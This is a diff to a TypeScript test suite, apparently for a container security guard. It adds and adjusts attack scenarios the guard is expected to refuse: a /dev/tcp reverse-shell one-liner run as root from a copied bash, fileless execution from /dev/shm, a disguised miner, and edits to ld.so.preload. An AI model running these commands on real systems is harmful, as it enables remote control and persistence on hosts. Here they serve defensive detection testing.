@@ -168,6 +168,13 @@ const COPY_SHELL = ['/usr/bin/acts', 'run', '/usr/bin/cp', '/usr/bin/bash', '/tm
 /** Executes the commands of the far end. */
 const SHELL = (): string => `exec 3<>/dev/tcp/127.0.0.1/${shellPort}; read c <&3; $c >&3; read c <&3`;
 
+/** A shell in the container's layer that is no copy of one of the image. */
+async function broughtShell(stage: Stage): Promise<Landed> {
+  copyFileSync('/usr/bin/bash', path.join(stage.root, 'tmp/sh-x'));
+  await stage.run(['/usr/bin/acts', 'run', '/tmp/sh-x', '-c', SHELL()]);
+  return receives('shell uid=0(root)');
+}
+
 /** A scenario of escape-guard. */
 const escaping = (
   name: string,
@@ -405,19 +412,19 @@ const PROGRAMS: readonly Scenario[] = [
     name: 'fileless, a file without a name on /dev/shm',
     policies: ['no-fileless-exec'],
     attack: async (stage) => says('landed', await stage.ops('tmpfile', '/usr/bin/scenario-ops')),
-    refusedBy: ['shared-memory'],
+    refusedBy: ['memory'],
   },
   {
     name: 'fileless, /dev',
     policies: ['no-fileless-exec'],
     attack: async (stage) => succeeds(await stage.sh('cp /usr/bin/true /dev/x && /dev/x')),
-    refusedBy: ['shared-memory'],
+    refusedBy: ['memory'],
   },
   {
     name: 'fileless, /dev/shm by the loader',
     policies: ['no-fileless-exec'],
     attack: async (stage) => succeeds(await stage.sh(`cp /usr/bin/true /dev/shm/x && ${LOADER} /dev/shm/x`)),
-    refusedBy: ['shared-memory'],
+    refusedBy: ['memory'],
   },
   {
     name: 'reverse shell',
@@ -430,11 +437,17 @@ const PROGRAMS: readonly Scenario[] = [
   },
   {
     name: 'reverse shell of a copied bash',
-    policies: ['no-shell', 'immutable-image'],
+    policies: ['no-shell'],
     async attack(stage) {
       await stage.run([...COPY_SHELL, 'run', '/tmp/sh-x', '-c', SHELL()]);
       return receives('shell uid=0(root)');
     },
+    refusedBy: ['shell-copy'],
+  },
+  {
+    name: 'reverse shell of a downloaded bash',
+    policies: ['no-shell', 'immutable-image'],
+    attack: (stage) => broughtShell(stage),
     refusedBy: ['drift'],
   },
   {
@@ -542,12 +555,9 @@ const SLIPS: readonly Omit<Scenario, 'refusedBy'>[] = [
       says('owned', await stage.sh('echo \'print "owned\\n"\' > /tmp/x; chmod +x /tmp/x; perl /tmp/x')),
   },
   {
-    name: 'a shell under another name',
+    name: 'a shell that was brought in from outside, under another name',
     policies: ['no-shell'],
-    async attack(stage) {
-      await stage.run([...COPY_SHELL, 'run', '/tmp/sh-x', '-c', SHELL()]);
-      return receives('shell uid=0(root)');
-    },
+    attack: (stage) => broughtShell(stage),
   },
   {
     name: 'a miner under another name, to a pool on port 443',
@@ -600,7 +610,8 @@ const before = [CORE_PATTERN, MODPROBE].map((file) => [file, readFileSync(file, 
 function restore(): void {
   for (const [file, text] of before) writeFileSync(file, text);
   if (existsSync('/sys/module/nlmon')) execFileSync('rmmod', ['nlmon']);
-  for (const file of ['etc/ld.so.preload', 'tmp/held', 'tmp/go']) rmSync(path.join(stage.root, file), { force: true });
+  for (const file of ['etc/ld.so.preload', 'tmp/held', 'tmp/go', 'tmp/sh-x'])
+    rmSync(path.join(stage.root, file), { force: true });
   rmSync(path.join(stage.host, 'proof'), { force: true });
   received.length = 0;
 }
